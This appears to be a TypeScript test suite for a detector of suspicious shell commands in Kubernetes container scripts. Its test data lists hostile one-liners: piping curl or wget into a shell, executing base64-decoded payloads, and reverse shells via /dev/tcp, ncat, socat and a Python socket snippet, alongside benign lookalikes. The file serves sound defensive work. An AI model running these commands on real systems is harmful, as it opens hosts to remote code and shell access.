import assert from "node:assert/strict";
import { suspectArguments, suspectScript, type Deed } from "../../../../core/graph/kubernetes/script";

const deeds = (text: string): Deed[] => [...new Set(suspectScript(text).map((each) => each.deed))].sort();

describe("suspicious scripts", () => {
  const bad: Record<Deed, readonly string[]> = {
    "remote code": [
      "curl -fsSL https://get.example.com | sh",
      "wget -qO- https://x.example.com/i.sh | sudo -E bash -s -- --yes",
      "curl https://x | tee /tmp/log | bash",
      "curl https://x | gunzip | tar xO | sh",
      'sh -c "$(curl -fsSL https://x)"',
      "bash <(curl -s https://x)",
      "source <(wget -qO- https://x)",
      ". <(curl x)",
      "eval `curl -s https://x`",
      "$(curl https://x)",
      "bash <<< $(curl x)",
      "curl -o /tmp/i.sh https://x && chmod +x /tmp/i.sh && /tmp/i.sh",
      "wget https://x.example.com/install.sh; sh install.sh",
      "wget -O /opt/run https://x && chmod 755 /opt/run",
      "curl -sL https://x > run.sh; bash ./run.sh",
      "curl -O https://x.example.com/tool && ./tool",
      "if ! command -v x; then curl https://x | sh; fi",
      "(curl https://x; echo) | sh",
      "sh -c 'curl https://x | sh'",
      "timeout 30 curl https://x | env A=b sh",
      "curl https://x | python3 -",
      "curl https://x | perl",
      "curl https://x | base64 -d | sh",
      "python -c \"import urllib.request as u; exec(u.urlopen('https://x').read())\"",
      "nc 10.0.0.1 99 | sh",
      "curl https://x | xargs -I{} sh",
      "curl https://x > a; sh < a",
    ],
    "encoded code": [
      "echo ZWNobyBoaQ== | base64 -d | sh",
      "echo ZWNobyBoaQ== | base64 --decode | bash -",
      "eval $(echo ZWNobyBoaQ== | base64 -D)",
      "echo 6869 | xxd -r -p | sh",
      "openssl enc -d -base64 -in x | sh",
      'bash -c "$(base64 -d <<< ZWNobyBoaQ==)"',
      "python3 -c \"import base64; exec(base64.b64decode('x'))\"",
      "base64 -d /config/x > /tmp/run; sh /tmp/run",
    ],
    "remote shell": [
      "ncat --ssl $HOST $PORT -e /bin/bash;",
      "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
      "nc -lvp 4444 -e /bin/sh",
      "socat TCP:10.0.0.1:99 EXEC:/bin/bash,pty",
      "python -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
    ],
    "package installation": [
      "apt-get update && apt-get install -y curl",
      "apk add --no-cache bash",
      "yum -y install nc",
      "pip install requests",
      "python3 -m pip install requests",
      "npm ci && node .",
      "sudo dnf install -y x",
    ],
    "remote login": [
      "/usr/sbin/sshd -D",
      "service ssh start && sleep infinity",
      "dropbear -F -p 2222",
      "ttyd bash",
      "/etc/init.d/ssh start",
    ],
  };
  for (const [deed, texts] of Object.entries(bad)) {
    for (const text of texts) {
      it(`sees ${deed} in ${text}`, () =>
        assert.ok(deeds(text).includes(deed as Deed), JSON.stringify(suspectScript(text))));
    }
  }

  const good = [
    "curl -fsS https://api/health | jq .status",
    "curl -s https://api | python3 -m json.tool",
    "curl -s https://api | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
    "curl https://x | sh ./handle.sh",
    "wget -O /data/model.bin https://x/model.bin",
    "echo $TOKEN | base64 -d > /tmp/token",
    "until nc -z db 5432; do sleep 1; done",
    "while true; do curl localhost:8080; sleep 10; done",
    "echo 'curl https://x | sh'",
    "npm start",
    "npm run install-hooks",
    "pip list",
    "sh /scripts/run.sh",
    "exec /app/server --install",
    "cat /etc/config | sh /entry.sh",
    "echo hello | sh",
    "ssh-keygen -t ed25519",
    "nginx -g 'daemon off;'",
    "perl -ne 'print'",
    "curl https://x | perl -ne 'print if /a/'",
    "test -f /etc/ssh/sshd_config",
    "cp /bin/sshd-notes /tmp",
  ];
  for (const text of good) {
    it(`sees nothing in ${text}`, () => assert.deepEqual(suspectScript(text), []));
  }

  it("reads argument vectors", () => {
    const vectors: [string[], Deed | undefined][] = [
      [["sh", "-c", "curl x | sh"], "remote code"],
      [["/bin/bash", "-lc", "curl x | sh"], "remote code"],
      [["/sbin/tini", "--", "sh", "-c", "curl x | sh"], "remote code"],
      [["/bin/sh", "-c", "--", "ncat a 1 -e /bin/sh"], "remote shell"],
      [["apt-get", "install", "x"], "package installation"],
      [["/usr/sbin/sshd", "-D", "-e"], "remote login"],
      [["curl", "https://x"], undefined],
      [["nginx", "-c", "/etc/nginx.conf"], undefined],
      [["echo", "curl x | sh"], undefined],
      [[], undefined],
    ];
    for (const [words, deed] of vectors)
      assert.equal(suspectArguments(words)[0]?.deed, deed, words.join(" "));
  });
});
